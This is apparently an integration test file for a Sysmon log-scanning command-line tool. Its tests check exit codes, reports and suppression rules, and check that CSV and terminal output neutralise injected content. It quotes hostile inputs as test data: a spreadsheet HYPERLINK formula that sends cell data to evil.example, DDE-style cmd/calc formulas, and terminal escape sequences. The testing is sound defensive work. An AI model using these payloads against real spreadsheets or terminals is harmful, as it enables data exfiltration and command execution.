use crate::support::case_inputs;
use std::path::PathBuf;
use std::process::{Command, Output};

fn run(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_sysmon-lens"))
        .args(args)
        .output()
        .expect("the CLI runs")
}

/// The case's input files (its directory also holds expected.json).
fn case_args(case: &str) -> Vec<String> {
    case_inputs(case)
        .iter()
        .map(|p| p.to_string_lossy().into_owned())
        .collect()
}

fn scan(options: &[&str], case: &str) -> Output {
    let inputs = case_args(case);
    let mut args = vec!["scan"];
    args.extend(options);
    args.extend(inputs.iter().map(String::as_str));
    run(&args)
}

#[test]
fn exit_code_is_one_with_findings_and_zero_without() {
    assert_eq!(scan(&[], "d2_hit").status.code(), Some(1));
    assert_eq!(scan(&[], "d2_port_8080_no_hit").status.code(), Some(0));
}

/// A fresh directory under the system's temp dir, removed when dropped.
struct TempDir(PathBuf);

impl TempDir {
    fn new(label: &str) -> Self {
        let dir = std::env::temp_dir().join(format!("sysmon-lens-cli-{label}-{}", std::process::id()));
        std::fs::create_dir_all(&dir).expect("temp dir");
        Self(dir)
    }

    fn write(&self, name: &str, bytes: &[u8]) -> String {
        let path = self.0.join(name);
        std::fs::write(&path, bytes).expect("write temp file");
        path.to_string_lossy().into_owned()
    }
}

impl Drop for TempDir {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.0);
    }
}

fn case_input(case: &str) -> String {
    case_inputs(case)[0].to_string_lossy().into_owned()
}

fn input_bytes(case: &str) -> Vec<u8> {
    std::fs::read(&case_inputs(case)[0]).expect("case input")
}

/// Bytes no reader recognizes, as `bad_binary_and_empty/garbage.bin`.
fn garbage() -> String {
    cases_file("bad_binary_and_empty", "garbage.bin")
}

fn cases_file(case: &str, name: &str) -> String {
    let path = case_inputs(case)
        .into_iter()
        .find(|path| path.file_name().is_some_and(|n| n == name))
        .expect("case file");
    path.to_string_lossy().into_owned()
}

#[test]
fn exit_code_is_two_when_the_only_named_file_is_random_bytes_or_empty() {
    let output = run(&["scan", &garbage()]);
    assert_eq!(output.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&output.stdout).contains("not read: not a Sysmon log"));
    assert!(String::from_utf8_lossy(&output.stderr).contains("nothing could be read from"));

    let output = run(&["scan", &cases_file("bad_binary_and_empty", "empty.log")]);
    assert_eq!(output.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&output.stdout).contains("not read: empty file"));
}

#[test]
fn exit_code_is_two_when_a_named_file_is_unreadable_even_beside_findings() {
    let output = run(&["scan", "--format", "json", &garbage(), &case_input("d2_hit")]);
    assert_eq!(output.status.code(), Some(2));
    let report: serde_json::Value = serde_json::from_slice(&output.stdout).expect("the report is printed");
    assert_eq!(report["findings"].as_array().expect("findings").len(), 2);
    assert_eq!(report["files"][0]["format"], "unknown");

    let output = run(&["scan", "/nonexistent/sysmon.log", &case_input("d2_hit")]);
    assert_eq!(output.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&output.stdout).contains("1 as published, 1 hardened"));
    assert!(String::from_utf8_lossy(&output.stderr).contains("cannot read /nonexistent/sysmon.log"));
}

#[test]
fn files_met_in_a_directory_that_are_not_logs_are_listed_not_errors() {
    let dir = TempDir::new("walk");
    dir.write("a.log", &input_bytes("d2_hit"));
    dir.write("notes.bin", &std::fs::read(garbage()).expect("garbage"));
    dir.write("empty.txt", b"");
    let output = run(&["scan", &dir.0.to_string_lossy()]);
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert!(stdout.contains("notes.bin  [unknown, utf-8]"), "{stdout}");
    assert!(stdout.contains("empty.txt  [unknown, utf-8]"), "{stdout}");
    assert_eq!(output.status.code(), Some(1), "findings, and no error");

    std::fs::remove_file(dir.0.join("a.log")).expect("remove log");
    let output = run(&["scan", &dir.0.to_string_lossy()]);
    assert_eq!(output.status.code(), Some(0), "nothing named failed, nothing found");
}

#[test]
fn csv_cells_never_begin_with_a_live_formula_character() {
    let output = scan(&["--format", "csv"], "export_csv_formula_cells");
    assert_eq!(output.status.code(), Some(1));
    let text = String::from_utf8(output.stdout).expect("utf-8");
    assert!(
        text.contains(r#""'=HYPERLINK(""http://evil.example/?""&A1,""open"")""#),
        "{text}"
    );
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes());
    let records: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("valid CSV")).collect();
    assert_eq!(records.len(), 7, "a header and three rows in each reading");
    for cell in records.iter().flatten() {
        let live = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
        assert!(!live || cell.parse::<f64>().is_ok(), "live formula cell {cell:?}");
    }
    let column = |name: &str| records[0].iter().position(|c| c == name).expect("column");
    let (process, user, dest) = (column("process"), column("user"), column("dest"));
    let rows: Vec<[&str; 3]> = records[1..].iter().map(|r| [&r[process], &r[user], &r[dest]]).collect();
    for expected in [
        [
            r#"'=HYPERLINK("http://evil.example/?"&A1,"open")"#,
            "'@SUM(1+1)*cmd|' /C calc'!A0",
            "'+WS-01",
        ],
        ["'-2+3+cmd|' /C calc'!A0", "'-CORP\\bob", "'=1+1"],
        ["'\t=cmd|' /C calc'!A0", "'\r=evil", "-5"],
    ] {
        assert_eq!(
            rows.iter().filter(|row| **row == expected).count(),
            2,
            "{expected:?} in {rows:?}"
        );
    }
}

#[test]
fn table_shows_control_characters_as_escapes() {
    let output = scan(&[], "export_terminal_escapes");
    assert_eq!(output.status.code(), Some(1));
    for stream in [&output.stdout, &output.stderr] {
        for byte in [0x1b, 0x07, 0x0d, 0x7f] {
            assert!(!stream.contains(&byte), "byte {byte:#04x} printed raw");
        }
        let text = String::from_utf8_lossy(stream);
        assert!(!text.contains(['\u{202e}', '\u{9b}']), "{text}");
    }
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert!(
        stdout.contains(r"cmd.exe /c dir \x1b]0;owned\x07\x1b[2J\rcmd.exe /c echo harmless"),
        "{stdout}"
    );
    assert!(stdout.contains(r"CORP\\u{202e}exe.ecila\u{9b}31m"), "{stdout}");
    assert!(stdout.contains(r"WS-01\x1b[8m\x7f\nfake line"), "{stdout}");
    assert!(!stdout.lines().any(|line| line.starts_with("fake line")), "{stdout}");
}

#[test]
fn table_shows_control_characters_in_file_names_as_escapes() {
    let dir = TempDir::new("names");
    let path = dir.write("evil\u{1b}]0;owned\u{7}.log", &input_bytes("d2_hit"));
    let output = run(&["scan", &path]);
    assert_eq!(output.status.code(), Some(1));
    assert!(!output.stdout.contains(&0x1b) && !output.stdout.contains(&0x07));
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert!(stdout.contains(r"evil\x1b]0;owned\x07.log  [xml-lines"), "{stdout}");
}

#[test]
fn exit_code_is_two_on_error() {
    let output = run(&["scan", "/nonexistent/sysmon.log"]);
    assert_eq!(output.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&output.stderr).contains("/nonexistent/sysmon.log"));
}

#[test]
fn json_output_is_the_library_report() {
    let output = scan(&["--format", "json"], "d2_join_across_files");
    assert_eq!(output.status.code(), Some(1));
    let printed: serde_json::Value = serde_json::from_slice(&output.stdout).expect("one JSON document");
    // The CLI names each file by the path it was given.
    let mut analyzer = sysmon_lens::Analyzer::new();
    for path in case_inputs("d2_join_across_files") {
        analyzer.begin_file(&path.to_string_lossy());
        analyzer.feed(&std::fs::read(&path).expect("input"));
    }
    let expected = serde_json::to_value(analyzer.finish()).expect("json");
    assert_eq!(printed, expected);
    assert_eq!(printed["tool"]["name"], "sysmon-lens");
}

#[test]
fn csv_has_a_header_and_one_line_per_finding() {
    let output = scan(&["--format", "csv"], "d1_each_listed_child");
    let text = String::from_utf8(output.stdout).expect("utf-8");
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(lines.len(), 11, "five rows in each reading");
    assert!(lines[0].starts_with("detection_id,detection,mode,severity,risk_score,risk_message,dest,user"));
    assert_eq!(
        lines
            .iter()
            .filter(|line| line.contains(",as_published,low,35,"))
            .count(),
        5
    );
    assert_eq!(
        lines.iter().filter(|line| line.contains(",hardened,low,35,")).count(),
        5
    );
}

#[test]
fn table_names_files_and_findings_and_skips_go_to_stderr() {
    let output = scan(&[], "bad_truncated_xml");
    let stdout = String::from_utf8_lossy(&output.stdout);
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(
        stdout.contains("Windows MSIExec Spawn Discovery Command (TTP): 2 as published, 2 hardened"),
        "{stdout}"
    );
    assert!(stdout.contains("[xml-lines, utf-8]"), "{stdout}");
    assert!(stderr.contains("input.log: line 2: truncated event"), "{stderr}");
}

#[test]
fn directories_are_walked_in_name_order() {
    let dir = std::env::temp_dir().join(format!("sysmon-lens-cli-{}", std::process::id()));
    std::fs::create_dir_all(dir.join("nested")).expect("temp dir");
    for (name, case) in [("b.log", "d1_identical_events_count_two"), ("nested/a.log", "d2_hit")] {
        std::fs::copy(&case_inputs(case)[0], dir.join(name)).expect("copy");
    }
    let output = run(&["scan", "--format", "json", &dir.to_string_lossy()]);
    std::fs::remove_dir_all(&dir).expect("cleanup");
    let report: serde_json::Value = serde_json::from_slice(&output.stdout).expect("json");
    let names: Vec<&str> = report["files"]
        .as_array()
        .expect("files")
        .iter()
        .map(|f| f["name"].as_str().expect("name"))
        .collect();
    assert!(
        names[0].ends_with("b.log") && names[1].ends_with("nested/a.log"),
        "{names:?}"
    );
    assert_eq!(
        report["findings"].as_array().expect("findings").len(),
        4,
        "two rows in each reading"
    );
    assert_eq!(output.status.code(), Some(1));
}

#[test]
fn table_prints_each_files_ingest_report() {
    let mut args = vec!["scan".to_string()];
    args.extend(case_args("archive_tar_gz_two_shapes"));
    args.extend(case_args("d1_missing_values_are_null"));
    let output = run(&args.iter().map(String::as_str).collect::<Vec<_>>());
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert!(
        stdout.contains("logs.tar.gz/logs/nxlog.json  [nxlog in gzip/tar, utf-8]  EID 1: 1  other: 2"),
        "{stdout}"
    );
    assert!(stdout.contains("_time from UtcTime (1)"), "{stdout}");
    assert!(
        stdout.contains("cannot see: no OriginalFileName in any process creation (EID 1) event"),
        "{stdout}"
    );
}

#[test]
fn demo_prints_a_sample_that_scans_with_findings() {
    let demo = run(&["demo"]);
    assert_eq!(demo.status.code(), Some(0));
    let path = std::env::temp_dir().join(format!("sysmon-lens-demo-{}.xml", std::process::id()));
    std::fs::write(&path, &demo.stdout).expect("write sample");
    let output = run(&["scan", "--format", "json", &path.to_string_lossy()]);
    std::fs::remove_file(&path).expect("cleanup");
    assert_eq!(output.status.code(), Some(1));
    let report: serde_json::Value = serde_json::from_slice(&output.stdout).expect("json");
    assert_eq!(report["findings"].as_array().expect("findings").len(), 10);
}

#[test]
fn rules_hide_findings_from_table_and_csv_mark_them_in_json_and_set_the_exit_code() {
    let dir = TempDir::new("rules");
    let all = dir.write(
        "all.json",
        br#"[{"detection_id": "b0fd38c7-f71a-43a2-870e-f3ca06bcdd99", "field": "process_name", "match": "wildcard", "value": "MSI*.EXE"}]"#,
    );
    let json = scan(&["--format", "json", "--rules", &all], "d2_hit");
    assert_eq!(json.status.code(), Some(0), "every finding suppressed: exit 0");
    let report: serde_json::Value = serde_json::from_slice(&json.stdout).expect("JSON report");
    let findings = report["findings"].as_array().expect("findings");
    assert!(!findings.is_empty());
    assert!(
        findings.iter().all(|f| f["suppressed_by"] == 0),
        "each kept, marked with its rule"
    );
    assert_eq!(report["suppression"]["suppressed"], findings.len());
    assert_eq!(
        report["risk_totals"],
        serde_json::json!([]),
        "no risk from suppressed findings"
    );

    let table = String::from_utf8(scan(&["--rules", &all], "d2_hit").stdout).expect("UTF-8");
    assert!(
        table.contains(&format!("Suppressed: {0} of {0} findings, by 1 rule", findings.len())),
        "{table}"
    );
    assert!(table.contains("No findings."), "{table}");
    let csv = String::from_utf8(scan(&["--format", "csv", "--rules", &all], "d2_hit").stdout).expect("UTF-8");
    assert_eq!(csv.lines().count(), 1, "the header alone: {csv}");

    let other = dir.write(
        "other.json",
        br#"[{"detection_id": "*", "field": "process_name", "match": "equals", "value": "notepad.exe"}]"#,
    );
    let kept = scan(&["--format", "json", "--rules", &other], "d2_hit");
    assert_eq!(kept.status.code(), Some(1));
    let report: serde_json::Value = serde_json::from_slice(&kept.stdout).expect("JSON report");
    assert_eq!(report["suppression"]["suppressed"], 0);
    assert!(
        report["findings"]
            .as_array()
            .expect("findings")
            .iter()
            .all(|f| f.get("suppressed_by").is_none())
    );
    let without: serde_json::Value =
        serde_json::from_slice(&scan(&["--format", "json"], "d2_hit").stdout).expect("JSON report");
    assert_eq!(report["risk_totals"], without["risk_totals"]);
    assert!(
        without.get("suppression").is_none(),
        "without --rules the report is as before"
    );
}

#[test]
fn a_rules_file_that_cannot_be_used_is_refused_by_name_before_any_scan() {
    let dir = TempDir::new("bad-rules");
    let bad = dir.write(
        "bad.json",
        br#"[{"detection_id": "*", "field": "host", "match": "equals", "value": "x"}]"#,
    );
    let out = scan(&["--rules", &bad], "d2_hit");
    assert_eq!(out.status.code(), Some(2));
    assert!(out.stdout.is_empty(), "no report");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("bad.json: suppression rules refused: rule #1: no detection outputs a field host"),
        "{stderr}"
    );
    let missing = scan(&["--rules", "/nonexistent/rules.json"], "d2_hit");
    assert_eq!(missing.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&missing.stderr).contains("cannot read /nonexistent/rules.json"));
}
